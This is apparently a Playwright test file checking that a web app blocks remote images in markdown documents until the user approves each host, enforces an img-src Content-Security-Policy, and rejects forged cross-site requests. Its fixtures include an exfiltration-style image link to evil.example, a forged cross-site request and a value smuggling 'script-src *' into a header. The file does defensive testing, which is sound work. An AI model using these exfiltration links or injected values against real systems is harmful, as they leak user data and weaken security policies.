import { expect, type Page, type Route, test } from "@playwright/test";
import { closePages } from "./close-pages";
import { expectGoodEverywhere } from "./looks";
import { makeWorkspace, mintKey, openAccount, person } from "./people";

const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const TEXT =
  "# Offline visits\n\n![chart](https://charts.example/c.png)\n\n![](https://evil.example/?q=what+it+read)\n";

let page: Page;
let path: string;
/** Addresses of other hosts that the browser asked for. */
const asked: string[] = [];

const answer = (route: Route) => {
  asked.push(route.request().url());
  return route.fulfill({ contentType: "image/png", body: PIXEL });
};

test.beforeAll(async ({ browser }) => {
  page = await (await browser.newContext()).newPage();
  await page.route(/\.example\//, answer);
  await openAccount(page, person("Imke"));
  const workspaceId = await makeWorkspace(page, "Pictures");
  const headers = { authorization: `Bearer ${await mintKey(page, workspaceId, "Pictures")}` };
  const post = async (to: string, data: object) => {
    const response = await page.request.post(`/api/v1${to}`, { headers, data });
    return (await response.json()).data.id;
  };
  const initiative_id = await post("/initiatives", { title: "Offline visits" });
  const document = { initiative_id, title: "Offline visits", type: "prd", content_markdown: TEXT };
  path = `/w/${workspaceId}/documents/${await post("/documents", document)}`;
});

test.afterAll(closePages);

const waiting = (host: string) => page.getByRole("button", { name: `Show images from ${host}` });

test("remote images: an image of another host waits for the click that names it, and no other host is asked", async () => {
  const response = await page.goto(path);
  expect(response?.headers()["content-security-policy"]).toMatch(/img-src 'self' data: blob:;/);
  await expect(waiting("charts.example")).toBeVisible();
  await expect(waiting("evil.example")).toBeVisible();
  expect(asked).toEqual([]);
  await expectGoodEverywhere(page, "remote-images");

  await waiting("charts.example").focus();
  await page.keyboard.press("Enter");
  const image = page.getByRole("img", { name: "chart" });
  await expect(image).toBeVisible();
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  await expect(page).toHaveURL(new RegExp(`${path}$`));
  await expect(waiting("evil.example")).toBeVisible();
  expect(asked).toEqual(["https://charts.example/c.png"]);
});

test("remote images: the editor shows images of an allowed host, and the addresses of others", async () => {
  await page.goto(`${path}/edit`);
  const text = page.getByRole("textbox", { name: "Document text" });
  const chart = text.getByRole("img", { name: "chart" }).locator("img");
  await expect.poll(() => chart.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  await expect(text.getByText("https://evil.example/?q=what+it+read")).toBeVisible();
  expect(new Set(asked)).toEqual(new Set(["https://charts.example/c.png"]));
});

test("remote images: the policy keeps other hosts out even if a script on the page asks them", async () => {
  await page.goto(path);
  const refused = page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ blockedURI }) =>
          resolve(blockedURI),
        );
        new Image().src = "https://evil.example/?q=2";
      }),
  );
  expect(await refused).toContain("evil.example");
});

test("remote images: the click counts only for its page, and other sites cannot make it", async () => {
  const other = await page.request.get(path.replace(/documents\/.*/, "context"));
  expect(other.headers()["content-security-policy"]).toMatch(/img-src 'self' data: blob:;/);
  const forged = await page.request.post("/image-hosts", {
    headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
    form: { host: "evil.example" },
  });
  expect(forged.status()).toBe(403);
  const odd = await page.request.post("/image-hosts", {
    headers: { origin: new URL(page.url()).origin, referer: page.url() },
    form: { host: "evil.example; script-src *" },
    maxRedirects: 0,
  });
  expect(odd.headers()["set-cookie"]).toBeUndefined();
});
